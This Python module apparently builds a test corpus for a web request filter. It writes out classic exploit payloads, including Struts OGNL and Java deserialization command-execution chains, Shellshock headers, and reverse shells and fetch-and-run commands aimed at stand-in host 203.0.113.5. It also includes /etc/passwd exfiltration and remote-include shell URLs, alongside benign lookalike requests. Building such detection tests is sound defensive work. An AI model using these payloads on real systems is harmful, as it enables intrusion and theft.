"""Blind set "ninetyfourth": the classic web exploits of 1999-2016, as the old scanners and botnets that still
sweep every address send them, each sent to the exploit's own path on this host and, when it rides a parameter,
to this product's routes as well.

The angle: mass scanners never retire an exploit. Every site still receives the phf newline, the IIS unicode
walk to cmd.exe, the awstats configdir pipe, the phpBB highlight of the Santy worm, mosConfig_absolute_path
inclusions, UNION SELECT concat(user, pass) against Joomla and WordPress plugins, xp_cmdshell, Struts OGNL and
Shellshock. Each exploit is written as its original request plus the variants the scanners added (other script
paths, other parameter names, other commands, the scanner's own encodings), 3 to 8 requests each.

Families (category / sub-family, one sub per exploit and product):
- rce: phf-cgi-command-injection, formmail-command-injection, awstats-configdir-injection, test-cgi-glob,
  nph-cgi-injection, legacy-cgi-command-injection, nimda-backdoor-probe, shellshock, ssi-injection,
  perl-cgi-open-pipe, perl-cgi-eval, python-cgi-eval, imagetragick-upload
- lfi: iis-unicode-traversal, iis-double-decode-traversal, iis-source-disclosure, apache-traversal,
  tomcat-traversal, tomcat-jsp-source-disclosure, coldfusion-locale-traversal, legacy-cgi-traversal,
  cms-include-lfi, joomla-component-lfi, wordpress-plugin-lfi, oscommerce-admin-auth-bypass, lfi-log-poisoning
- rfi: mambo-joomla-mosconfig-rfi, globals-overwrite-rfi, cms-include-rfi, timthumb-rfi
- php: php-cgi-argument-injection, phpbb-highlight-eval, preg-replace-e-injection, eval-parameter-injection,
  assert-injection, tikiwiki-graph-formula, php-wrapper-inclusion, php-xmlrpc-eval,
  joomla-session-object-injection, phpmyadmin-setup-injection, vbulletin-object-injection,
  phpmailer-sender-injection, fckeditor-upload, wordpress-plugin-upload
- sqli: phpbb-viewtopic-sqli, php-nuke-sqli, oscommerce-sqli, joomla-component-sqli, wordpress-plugin-sqli,
  cms-union-concat-sqli, information-schema-enumeration, mssql-xp-cmdshell, mssql-asprox-cast,
  mssql-sp-procedures, oracle-utl-packages, oracle-plsql-gateway, drupalgeddon-sqli, login-form-bypass
- xss: search-page-xss, error-page-xss, legacy-ie-xss-vectors, header-reflection-xss, guestbook-stored-xss
- java: struts2-ognl-param, struts2-prefix-redirect, struts2-param-name, struts2-content-type,
  struts2-multipart-filename, struts2-xstream-rest, struts1-classloader, jboss-jmx-console,
  jboss-invoker-deserialization, tomcat-manager, coldfusion-admin, elasticsearch-groovy-script,
  jenkins-script-console
- generic: contact-form-header-injection, ldap-filter-injection, xpath-injection, http-response-splitting,
  iis-isapi-overflow

Placements: the exploit's own placement, as the scanner sends it: query (a value on the exploit's script path, in
the scanner's light encoding or fully percent-encoded, alternating), form (x-www-form-urlencoded POST), path (raw
request target, the scanner's own encoding kept byte for byte), param-name (Struts and Drupal payloads in the
parameter names), header:<Name> (Shellshock, Joomla's session injection, Struts' Content-Type, reflected headers),
cookie, xml and raw-body (XML-RPC, XStream, Java serialized objects, Elasticsearch), multipart-filename and
multipart-content (upload exploits). Every exploit that rides a parameter is sent a second time to one of this
product's routes, rotating: GET /api/users?<param>=..., POST /admin/users/search (with csrf_token), POST
/oauth/token (client-credentials form) and POST /me/settings (with csrf_token); header exploits go to /api/users
and /me/settings with the same header. Attack requests carry the headers of the old tools (an old browser, Wget,
curl, Python-urllib, Java); no scanner names in the User-Agent, so a block is the payload's.

The benign half: ordinary requests to the same script paths and parameters (page=about, file=report.pdf,
lang=en, template=default, awstats reports, phpBB topics with a highlight, Joomla articles, osCommerce products,
ASP news pages, Struts actions, contact forms with real messages), the same parameters on this product's routes,
searches people type, OAuth client-credential grants, and Slack messages and bios in which people talk about
these old exploits and use the same words innocently.

Authorship and independence: written from general knowledge of these exploits and the brief alone (no payload
list, exploit database, ruleset or ruleset regression test was read, and nothing was looked up); measured once on
unchanged code; the payloads were not changed after the measurement. Deterministic: one seeded random source for
tokens, no clock.
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "ninetyfourth"

Pairs = list[tuple[str, str]]

# What the old tools send as User-Agent (no scanner names: a block must be the payload's).
OLD_UAS = [
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
    "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1.6) Gecko/20070725 Firefox/2.0.0.6",
    "Wget/1.12 (linux-gnu)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322)",
    "curl/7.29.0",
    "Python-urllib/2.7",
    "Mozilla/5.0 (X11; Linux x86_64; rv:38.0) Gecko/20100101 Firefox/38.0",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "python-requests/2.9.1",
    "Java/1.7.0_80",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]

ATTACKER = "203.0.113.5"
LIGHT_SAFE = "/:,;()'!*$@.-_~[]=?|"
FORM = "application/x-www-form-urlencoded"


# --------------------------------------------------------------------------------------------------------------
# The exploits
# --------------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Exploit:
    """One exploit and its variants.

    kind:
      query / form   a variant is a value (for `param`), a (name, value) pair, a (path, name, value) triple, or a
                     (path, [pairs]) / [pairs] group; sent on the own path (with `extra`) and on a product route
      rawquery       a variant is the raw query string, sent on the own path and on /api/users
      pname          like rawquery, but the payload is in the parameter names (placement param-name)
      rawuri         a variant is a raw request target (or (target, placement)); own path only
      header         a variant is (header name, value); own path and a product route
      body           a variant is a raw body (POST to the own path with `ctype`); own path only
      multipart      a variant is (field, filename, content type, content); own path and /me/settings
    """

    cat: str
    sub: str
    kind: str
    paths: tuple[str, ...]
    variants: tuple[Any, ...]
    param: str = ""
    extra: tuple[tuple[str, str], ...] = ()
    ctype: str = ""
    method: str = ""
    placement: str = ""
    ua: str = ""


def hexurl(text: str) -> str:
    """Every byte percent-encoded, spaces as '+', as the php-cgi exploit kits send it."""
    return "+".join("".join(f"%{b:02X}" for b in word.encode()) for word in text.split(" "))


def mssql_hex(text: str) -> str:
    return "0x" + text.encode().hex().upper()


CODE_RED = ("%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190"
            "%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a")
ASPROX = ("DECLARE @T varchar(255),@C varchar(255) DECLARE Table_Cursor CURSOR FOR select a.name,b.name from "
          "sysobjects a,syscolumns b where a.id=b.id and a.xtype='u' and (b.xtype=99 or b.xtype=35 or "
          "b.xtype=231 or b.xtype=167) OPEN Table_Cursor FETCH NEXT FROM Table_Cursor INTO @T,@C")
S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
          "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
          "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
          "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
          "(#context.setMemberAccess(#dm)))).(#cmd='{cmd}').(#iswin=(@java.lang.System@getProperty('os.name')"
          ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
          "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
          "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
          "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
JOOMLA_OBJ = ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}'
              's:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";'
              'O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";s:{n}:"{code}";s:19:"cache_name_function";'
              's:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}'
              's:13:"\\0\\0\\0connection";b:1;}')


def joomla_obj(code: str) -> str:
    return JOOMLA_OBJ.replace("{n}", str(len(code))).replace("{code}", code)


def xmlrpc_body(name: str) -> str:
    return ("<?xml version=\"1.0\"?><methodCall><methodName>test.method</methodName><params><param><value>"
            f"<name>{name}</name></value></param></params></methodCall>")


MVG = ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|{cmd} \"-la)'\n"
       "pop graphic-context\n")
XSTREAM = ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml."
           "internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal."
           "ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class="
           "\"javax.crypto.NullCipher\"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="
           "\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\""
           "java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command>{cmd}</command>"
           "<redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO$"
           "ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/>"
           "</method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher>"
           "<input class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer></ibuffer><done>false</done>"
           "</is><consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen>"
           "</value></jdk.nashorn.internal.objects.NativeString></entry></map>")
# Java serialized objects: the binary bytes written as '.', the class and method names as they appear.
SER_CC = (".....sr.2sun.reflect.annotation.AnnotationInvocationHandlerU.......L..memberValuest..Ljava/util/Map;"
          "L..typet..Ljava/lang/Class;xps}....java.util.Mapxr..java.lang.reflect.Proxy.....'....L..ht.%Ljava/lang/"
          "reflect/InvocationHandler;xpsq.~..sr.*org.apache.commons.collections.map.LazyMapn....y.....L..factoryt."
          ",Lorg/apache/commons/collections/Transformer;xpsr.:org.apache.commons.collections.functors."
          "ChainedTransformer0..(z.....[..iTransformerst.-[Lorg/apache/commons/collections/Transformer;xpur.-"
          "[Lorg.apache.commons.collections.Transformer;.V*..4.....xp....sr.;org.apache.commons.collections."
          "functors.ConstantTransformerXv..A......L..iConstantt..Ljava/lang/Object;xpvr..java.lang.Runtime"
          "...........xpsr.:org.apache.commons.collections.functors.InvokerTransformer..k{|.8...[..iArgst.."
          "[Ljava/lang/Object;L..iMethodNamet..Ljava/lang/String;[..iParamTypest..[Ljava/lang/Class;xpur.."
          "[Ljava.lang.Object;..X..s)l...xp....t..getRuntimeur..[Ljava.lang.Class;.......Z....xp....t.."
          "getMethoduq.~......t..invokeuq.~......t..execuq.~......t.{cmd}")

EXPLOITS: list[Exploit] = [
    # ---------------------------------------------------------------- rce: CGI era
    Exploit("rce", "phf-cgi-command-injection", "query", ("/cgi-bin/phf", "/cgi-bin/phf.cgi", "/phf"), (
        "x\n/bin/cat /etc/passwd",
        ("Qname", "root\n/bin/sh -c id"),
        ("Jserver", "x\n/usr/bin/id"),
        "x\n/usr/bin/id",
        "x\n/bin/ls -la /etc",
        "x\n/usr/X11R6/bin/xterm -display 203.0.113.5:0.0 &",
        "x\r\n/bin/uname -a",
    ), param="Qalias", extra=(("Qalias", "x"), ("Qname", "haxor"))),
    Exploit("rce", "formmail-command-injection", "form",
            ("/cgi-bin/formmail.pl", "/cgi-bin/FormMail.pl", "/cgi-bin/formmail.cgi", "/formmail.pl"), (
                "nobody@example.com;cat /etc/passwd|mail attacker@evil.example",
                "|/bin/mail attacker@evil.example < /etc/passwd",
                "root@localhost;/usr/bin/id;",
                ("email", "x@example.com`id`"),
                "`/usr/bin/wget http://203.0.113.5/bot.pl -O /tmp/b.pl`",
                "x@example.com|/bin/sh -c 'nc 203.0.113.5 4444 -e /bin/sh'|",
            ), param="recipient",
            extra=(("recipient", "webmaster@example.com"), ("subject", "Feedback"), ("email", "x@example.com"),
                   ("comments", "hello"))),
    Exploit("rce", "awstats-configdir-injection", "query",
            ("/awstats/awstats.pl", "/cgi-bin/awstats.pl", "/cgi-bin/awstats/awstats.pl", "/awstats.pl"), (
                "|echo;echo YYY;id;echo YYY;echo|",
                "|echo;cat /etc/passwd;echo|",
                "|cd /tmp;wget http://203.0.113.5/lila.jpg;perl lila.jpg;echo|",
                [("update", "1"), ("logfile", "|/bin/uname -a|")],
                ("pluginmode", ":system(\"id\");"),
                ("migrate", "|id|awstats052005.txt"),
                "|echo;uname -a;echo|",
            ), param="configdir"),
    Exploit("rce", "test-cgi-glob", "rawuri", (), (
        "/cgi-bin/test-cgi?*",
        "/cgi-bin/test-cgi?/*",
        "/cgi-bin/test-cgi?/etc/*",
        "/cgi-bin/nph-test-cgi?*",
        "/cgi-bin/test-cgi.bat?|dir+..\\..\\..\\..\\..\\",
        "/cgi-bin/test.bat?&dir+c:\\",
    ), placement="query"),
    Exploit("rce", "nph-cgi-injection", "query", ("/cgi-bin/nph-exploitscanget.cgi",), (
        "`id`",
        "127.0.0.1;cat /etc/passwd",
        "localhost|uname -a",
        "$(wget http://203.0.113.5/x -O /tmp/x)",
    ), param="host", extra=(("port", "80"), ("errchk", "0"), ("idsbypass", "0"))),
    Exploit("rce", "legacy-cgi-command-injection", "rawuri", (), (
        ("/cgi-bin/campas?%0acat%0a/etc/passwd%0a", "query"),
        ("/cgi-bin/handler/useless_shit;cat%20/etc/passwd|?data=Download", "path"),
        ("/cgi-bin/webdist.cgi?distloc=;cat%20/etc/passwd", "query"),
        ("/cgi-bin/faxsurvey?/bin/cat%20/etc/passwd", "query"),
        ("/cgi-bin/pfdispaly.cgi?'/bin/cat%20/etc/passwd|'", "query"),
        ("/cgi-bin/whois_raw.cgi?fqdn=%0Acat%20/etc/passwd", "query"),
        ("/cgi-bin/info2www?'(../../../../../../../bin/mail%20attacker@evil.example%3C/etc/passwd|)'", "query"),
        ("/cgi-bin/aglimpse/80|IFS=5;CMD=5mail5attacker@evil.example%3C/etc/passwd;eval$CMD;", "path"),
    )),
    Exploit("rce", "nimda-backdoor-probe", "rawuri", (), (
        "/scripts/root.exe?/c+dir",
        "/MSADC/root.exe?/c+dir",
        "/c/winnt/system32/cmd.exe?/c+dir",
        "/d/winnt/system32/cmd.exe?/c+dir",
        "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
    ), placement="path"),
    Exploit("rce", "shellshock", "header",
            ("/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/bash", "/cgi-sys/defaultwebpage.cgi",
             "/cgi-bin/printenv", "/cgi-bin/test-cgi", "/cgi-bin/php5", "/"), (
                ("User-Agent", "() { :; }; /bin/bash -c \"wget http://203.0.113.5/x -O /tmp/x; chmod +x /tmp/x; "
                               "/tmp/x\""),
                ("User-Agent", "() { :;}; echo; /bin/cat /etc/passwd"),
                ("Referer", "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id"),
                ("Cookie", "() { :; }; ping -c 3 203.0.113.5"),
                ("User-Agent", "() { _; } >_[$($())] { echo; /usr/bin/id; }"),
                ("User-Agent", "() { :; }; /bin/sleep 10"),
                ("X-Forwarded-For", "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
                ("User-Agent", "() { (a)=>\\' bash -c \"echo date\""),
            )),
    Exploit("rce", "ssi-injection", "query", ("/search.shtml", "/guestbook/index.shtml", "/feedback.shtml"), (
        ("q", '<!--#exec cmd="ls -la" -->'),
        ("q", '<!--#echo var="DOCUMENT_ROOT"-->'),
        ("page", '<!--#include virtual="/etc/passwd"-->'),
        ("q", '<!--#exec cmd="dir c:\\" -->'),
    )),
    Exploit("rce", "ssi-injection", "form", ("/cgi-bin/guestbook.pl", "/guestbook.shtml"), (
        ("comment", '<!--#exec cmd="/bin/cat /etc/passwd"-->'),
        ("comment", '<!--#include file="../../../../etc/passwd"-->'),
        ("message", '<!--#exec cgi="/cgi-bin/printenv"-->'),
        ("comment", '<!--#config errmsg="[x]"--><!--#exec cmd="id"-->'),
    ), extra=(("name", "guest"), ("email", "guest@example.com"), ("comment", "nice site"))),
    Exploit("rce", "ssi-injection", "header", ("/index.shtml", "/stats.shtml"), (
        ("User-Agent", '<!--#exec cmd="id"-->'),
        ("Referer", '<!--#include virtual="/etc/passwd"-->'),
    )),
    Exploit("rce", "perl-cgi-open-pipe", "query", ("/cgi-bin/view.pl",), (
        ("/cgi-bin/view.pl", "file", "|id|"),
        ("/cgi-bin/index.pl", "page", "../../../../../bin/cat /etc/passwd|"),
        ("/cgi-bin/show.cgi", "template", "|/usr/bin/uname -a|"),
        ("/cgi-bin/download.pl", "file", ";/bin/ls -la|"),
        ("/cgi-bin/mail.pl", "to", "x@example.com;/usr/bin/id"),
        ("/cgi-bin/viewer.cgi", "doc", "/bin/cat /etc/passwd|"),
        ("/cgi-bin/search.pl", "q", "`/usr/bin/id`"),
    )),
    Exploit("rce", "perl-cgi-eval", "query", ("/cgi-bin/calc.pl",), (
        ("/cgi-bin/calc.pl", "expr", "system('id')"),
        ("/cgi-bin/index.cgi", "sort", "@{[system 'id']}"),
        ("/cgi-bin/report.pl", "fmt", "@{[`id`]}"),
        ("/cgi-bin/calc.pl", "expr", "qx(cat /etc/passwd)"),
        ("/cgi-bin/eval.cgi", "code", "exec('/bin/sh -c id')"),
        ("/cgi-bin/admin.pl", "x", "1;open(F,'/etc/passwd');print <F>;"),
    )),
    Exploit("rce", "python-cgi-eval", "query", ("/cgi-bin/calc.py",), (
        ("/cgi-bin/calc.py", "expr", "__import__('os').system('id')"),
        ("/cgi-bin/app.py", "q", "eval(compile('import os;os.system(\"id\")','a','single'))"),
        ("/cgi-bin/calc.py", "expr", "().__class__.__bases__[0].__subclasses__()"),
        ("/cgi-bin/run.py", "input", "__import__(\"subprocess\").check_output(\"id\",shell=True)"),
        ("/cgi-bin/report.py", "x", "os.popen('cat /etc/passwd').read()"),
        ("/cgi-bin/calc.py", "expr", "exec(\"import socket,subprocess,os;s=socket.socket();"
                                     "s.connect(('203.0.113.5',4444))\")"),
        ("/cgi-bin/app.py", "data", "cos\nsystem\n(S'id'\ntR."),
    )),
    Exploit("rce", "imagetragick-upload", "multipart", ("/upload.php", "/avatar/upload", "/upload", "/image.php"), (
        ("file", "exploit.mvg", "image/x-mvg", MVG.replace("{cmd}", "ls")),
        ("image", "x.jpg", "image/jpeg", MVG.replace("{cmd}", "id")),
        ("file", "poc.png", "image/png",
         MVG.replace("{cmd}", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")),
        ("avatar", "avatar.gif", "image/gif", "push graphic-context\nviewbox 0 0 640 480\n"
                                              "image over 0,0 0,0 'https://127.0.0.1/x.php?x=`curl "
                                              "http://203.0.113.5/s|sh`'\npop graphic-context\n"),
    ), placement="multipart-content"),
    # ---------------------------------------------------------------- lfi: IIS, Apache, Tomcat, ColdFusion
    Exploit("lfi", "iis-unicode-traversal", "rawuri", (), (
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
        "/msadc/..%c0%af../..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\",
        "/_vti_bin/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/iisadmpwd/..%c0%af..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+ver",
        "/scripts/..%e0%80%af../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%u002f..%u002fwinnt/system32/cmd.exe?/c+dir",
    ), placement="path"),
    Exploit("lfi", "iis-double-decode-traversal", "rawuri", (), (
        "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
        "/msadc/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir+c:\\",
        "/cgi-bin/..%255c..%255c..%255cwinnt/system32/cmd.exe?/c+type+c:\\boot.ini",
        "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
        "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+copy+c:\\winnt\\system32\\cmd.exe+c:\\inetpub\\scripts\\"
        "root.exe",
        "/_vti_bin/..%255c..%255c..%255c..%255c..%255c../winnt/system32/cmd.exe?/c+dir",
    ), placement="path"),
    Exploit("lfi", "iis-source-disclosure", "rawuri", (), (
        ("/global.asa+.htr", "path"),
        ("/default.asp::$DATA", "path"),
        ("/default.asp%2e", "path"),
        ("/iissamples/exair/howitworks/codebrws.asp?source=/../../../../../winnt/win.ini", "query"),
        ("/msadc/Samples/SELECTOR/showcode.asp?source=/msadc/Samples/../../../../../boot.ini", "query"),
        ("/default.asp%20", "path"),
        ("/iissamples/sdk/asp/docs/codebrws.asp?source=/../../../../../../winnt/repair/sam._", "query"),
        ("/_vti_pvt/service.pwd", "path"),
    )),
    Exploit("lfi", "apache-traversal", "rawuri", (), (
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        "/cgi-bin/..%5c..%5c..%5c..%5cwinnt/win.ini",
        "/..%2f..%2f..%2f..%2fetc/passwd",
        "/.%2e/.%2e/.%2e/.%2e/etc/hosts",
        "/icons/..%2f..%2f..%2f..%2fproc/self/environ",
    ), placement="path"),
    Exploit("lfi", "tomcat-traversal", "rawuri", (), (
        "/examples/..%5c..%5cconf/tomcat-users.xml",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/examples/jsp/%252e%252e/%252e%252e/manager/html",
        "/docs/..;/manager/html",
        "/..;/WEB-INF/web.xml",
        "/examples/..%252f..%252fWEB-INF/web.xml",
        "/%2e%2e/%2e%2e/%2e%2e/conf/server.xml",
        "/webapps/ROOT/..%2f..%2fconf%2ftomcat-users.xml",
    ), placement="path"),
    Exploit("lfi", "tomcat-jsp-source-disclosure", "rawuri", (), (
        "/index.jsp%00",
        "/index.JSP",
        "/index.jsp%20",
        "/login.jsp.",
        "/%3f.jsp",
        "/index.jsp::$DATA",
        "/WEB-INF/web.xml",
    ), placement="path"),
    Exploit("lfi", "coldfusion-locale-traversal", "query",
            ("/CFIDE/administrator/enter.cfm", "/CFIDE/administrator/settings/mappings.cfm",
             "/CFIDE/wizards/common/_logintowizard.cfm", "/CFIDE/administrator/archives/index.cfm"), (
                "../../../../../../../../../../ColdFusion8/lib/password.properties\x00en",
                "..\\..\\..\\..\\..\\..\\..\\..\\ColdFusion8\\lib\\password.properties\x00en",
                "../../../../../../../../../../JRun4/servers/cfusion/cfusion-ear/cfusion-war/WEB-INF/cfusion/lib/"
                "password.properties\x00en",
                "../../../../../../../../../../ColdFusion9/lib/password.properties\x00en",
                "../../../../../../../../../../../../../../../etc/passwd\x00en",
                "../../../../../../../../../../CFusionMX7/lib/password.properties\x00en",
                "../../../../../../../../../../windows/win.ini\x00en",
            ), param="locale"),
    Exploit("lfi", "legacy-cgi-traversal", "rawuri", (), (
        "/cgi-bin/view-source?../../../../../../../etc/passwd",
        "/cgi-bin/htmlscript?../../../../etc/passwd",
        "/cgi-bin/wrap?/../../../../../etc",
        "/cgi-bin/php.cgi?/etc/passwd",
        "/cgi-bin/nph-showlogs.pl?files=../../../../../../etc/passwd&filter=.*&submit=Go&linecnt=500&refresh=0",
        "/cgi-bin/webspirs.cgi?sp.nextform=../../../../../../etc/passwd",
        "/cgi-bin/search.cgi?letter=../../../../../../etc/passwd",
        "/cgi-bin/htsearch?exclude=%60/etc/passwd%60",
        "/cgi-bin/nph-mr.cgi?do=loginhelp&configLanguage=../../../../../../../etc/passwd%00",
    ), placement="query"),
    Exploit("lfi", "cms-include-lfi", "query",
            ("/index.php", "/main.php", "/default.php", "/page.php", "/include.php", "/view.php"), (
                ("page", "../../../../../../etc/passwd"),
                ("file", "../../../../../../etc/passwd\x00"),
                ("template", "../../../../../../../../etc/passwd\x00.html"),
                ("lang", "../../../../../../proc/self/environ\x00"),
                ("path", "....//....//....//....//etc/passwd"),
                ("page", "/etc/passwd"),
                ("language", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
                ("inc", "..\\..\\..\\..\\boot.ini"),
            )),
    Exploit("lfi", "joomla-component-lfi", "query", ("/index.php",), (
        [("option", "com_ckforms"), ("controller", "../../../../../../../../etc/passwd\x00")],
        [("option", "com_jcollection"), ("controller", "../../../../../../../etc/passwd\x00")],
        [("option", "com_gcalendar"), ("controller", "../../../../../../../../proc/self/environ\x00")],
        [("option", "com_jfeedback"), ("controller", "../../../../../../../../../../etc/passwd\x00")],
        [("option", "com_ccnewsletter"), ("controller", "../../../../../../../configuration.php\x00")],
        [("option", "com_sectionex"), ("controller", "../../../../../../../../etc/passwd\x00")],
    )),
    Exploit("lfi", "wordpress-plugin-lfi", "query", ("/wp-admin/admin-ajax.php",), (
        ("/wp-admin/admin-ajax.php", [("action", "revslider_show_image"), ("img", "../wp-config.php")]),
        ("/wp-content/plugins/wp-filemanager/incl/libfile.php",
         [("path", "../../"), ("filename", "wp-config.php"), ("action", "download")]),
        ("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", [("pl", "/etc/passwd")]),
        ("/wp-content/themes/twentyten/download.php", [("file", "../../../wp-config.php")]),
        ("/wp-content/plugins/google-document-embedder/libs/pdf.php",
         [("fn", "x.pdf"), ("file", "../../../../wp-config.php")]),
        ("/wp-content/plugins/wptf-image-gallery/lib-mbox/ajax_load.php", [("url", "../../../../wp-config.php")]),
        ("/wp-admin/admin-ajax.php", [("action", "duplicator_download"), ("file", "../wp-config.php")]),
        ("/wp-content/plugins/db-backup/download.php", [("file", "../../../wp-config.php")]),
    )),
    Exploit("lfi", "oscommerce-admin-auth-bypass", "rawuri", (), (
        ("/admin/file_manager.php/login.php?action=download&filename=/includes/configure.php", "path"),
        ("/catalog/admin/file_manager.php/login.php?action=download&filename=/etc/passwd", "path"),
        ("/admin/categories.php/login.php?action=new_product_preview", "path"),
        ("/admin/banner_manager.php/login.php", "path"),
        ("/catalog/admin/administrators.php/login.php?action=insert", "path"),
        ("/admin/file_manager.php/login.php?action=download&filename=../../../../etc/passwd", "path"),
    )),
    Exploit("lfi", "lfi-log-poisoning", "query", ("/index.php", "/main.php"), (
        [("page", "../../../../../var/log/apache2/access.log"), ("cmd", "id")],
        ("page", "../../../../../var/log/httpd/access_log\x00"),
        ("file", "../../../../../../usr/local/apache/logs/error_log"),
        ("page", "../../../../../proc/self/fd/2"),
        ("inc", "/var/log/nginx/access.log"),
        ("page", "../../../../../../../proc/self/environ"),
    ), ua="<?php system($_GET['cmd']); ?>"),
    # ---------------------------------------------------------------- rfi
    Exploit("rfi", "mambo-joomla-mosconfig-rfi", "query",
            ("/components/com_extcalendar/extcalendar.php",
             "/administrator/components/com_remository/admin.remository.php", "/modules/mod_mainmenu.class.php",
             "/components/com_mospray/scripts/admin.php", "/mambo/index.php"), (
                "http://203.0.113.5/id.txt?",
                "http://evil.example/r57.txt??",
                "http://203.0.113.5/cmd.txt?&cmd=id",
                "ftp://anonymous:x@203.0.113.5/pub/c99.txt?",
                ("mosConfig_live_site", "http://evil.example/shell.txt?"),
                "http://evil.example/bot.txt\x00",
                "https://pastebin.example/raw/Xy12Ab?",
            ), param="mosConfig_absolute_path"),
    Exploit("rfi", "globals-overwrite-rfi", "query", ("/index.php",), (
        ("/includes/functions.php", "GLOBALS[phpbb_root_path]", "http://203.0.113.5/x.txt?"),
        ("/index.php", "_SERVER[DOCUMENT_ROOT]", "http://evil.example/shell.txt?"),
        ("/lib/config.php", "GLOBALS[config][path]", "http://evil.example/x.txt??"),
        ("/admin/common.inc.php", "GLOBALS[root_path]", "ftp://203.0.113.5/c99.txt?"),
        ("/index.php", "_REQUEST[include_path]", "http://203.0.113.5/id.txt%00"),
        ("/phpBB/includes/functions.php", "phpbb_root_path", "http://203.0.113.5/s.txt?"),
    )),
    Exploit("rfi", "cms-include-rfi", "query",
            ("/index.php", "/main.php", "/page.php", "/inc.php", "/content.php"), (
                ("page", "http://203.0.113.5/shell.txt?"),
                ("file", "http://www.google.com/humans.txt?"),
                ("path", "http://evil.example/c99.txt??"),
                ("template", "ftp://203.0.113.5/r57.txt"),
                ("lang", "http://evil.example/id.txt\x00"),
                ("include", "https://203.0.113.5/x.php"),
                ("dir", "\\\\203.0.113.5\\share\\x.php"),
